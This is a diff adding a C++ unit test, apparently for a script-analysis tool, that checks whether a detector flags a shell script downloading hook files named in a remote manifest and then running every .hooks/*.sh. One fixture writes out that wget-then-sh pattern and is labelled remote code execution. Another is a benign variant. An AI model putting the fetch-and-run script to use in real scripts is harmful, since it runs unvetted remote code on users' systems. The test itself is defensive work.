@@ -41,5 +41,34 @@ TEST(NinetiethRoundClasses, ALibraryBaseConstructedThroughSuperKeepsItsEndpoint)
   for (const auto& c : cases) check(c);
 }
 
+// A file written under a name wholly made at run time (hooks/$name, the name
+// from a downloaded index) may be any file a glob of that directory finds:
+// `for h in hooks/*.sh; do sh "$h"` runs the downloads.
+TEST(NinetiethRoundClasses, AGlobOfADirectoryFindsFilesWrittenUnderRunTimeNames) {
+  const Case cases[] = {
+      {"hooks named in a downloaded manifest, fetched, then every hooks/*.sh run", B,
+       "#!/bin/sh\n"
+       "S=https://sync.example.org\n"
+       "mkdir -p .hooks\n"
+       "wget -q -O .hooks/manifest.txt \"$S/hooks/manifest.txt\" || exit 0\n"
+       "while read -r name; do\n"
+       "  wget -q -O \".hooks/$name\" \"$S/hooks/$name\"\n"
+       "done < .hooks/manifest.txt\n"
+       "for h in .hooks/*.sh; do sh \"$h\"; done\n",
+       "REMOTE-CODE-EXECUTION", Language::shell},
+      {"downloads kept under a .json suffix are not the scripts run", L,
+       "#!/bin/sh\n"
+       "S=https://sync.example.org\n"
+       "mkdir -p .hooks\n"
+       "wget -q -O .hooks/index.txt \"$S/data/index.txt\" || exit 0\n"
+       "while read -r name; do\n"
+       "  wget -q -O \".hooks/$name.json\" \"$S/data/$name.json\"\n"
+       "done < .hooks/index.txt\n"
+       "for h in .hooks/*.sh; do sh \"$h\"; done\n",
+       nullptr, Language::shell},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
